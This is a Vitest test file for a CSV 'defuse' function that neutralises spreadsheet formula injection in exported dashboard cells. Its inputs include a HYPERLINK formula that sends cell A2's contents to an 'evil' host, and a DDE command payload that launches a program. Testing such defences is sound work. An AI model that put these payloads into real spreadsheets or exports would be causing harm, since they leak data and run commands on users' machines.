import { describe, expect, it } from 'vitest';
import { defuse } from '../../../src/dashboard/csv.js';

describe('CSV cells from client text', () => {
  it('prefixes anything a spreadsheet would run as a formula, a leading minus included', () => {
    for (const cell of [
      '=1+1',
      '+1',
      '@SUM(A1)',
      '\t=1',
      '-1+HYPERLINK("https://evil/?"&A2,"x")',
      "-2+cmd|' /C calc'!A0",
      '-x',
    ])
      expect(defuse(cell)).toBe(`'${cell}`);
  });

  it('leaves plain numbers, negative ones included, and ordinary text alone', () => {
    for (const cell of ['-1', '-0.25', '42', '0.001890', 'OpenAI/JS 6.1', ''])
      expect(defuse(cell)).toBe(cell);
  });
});
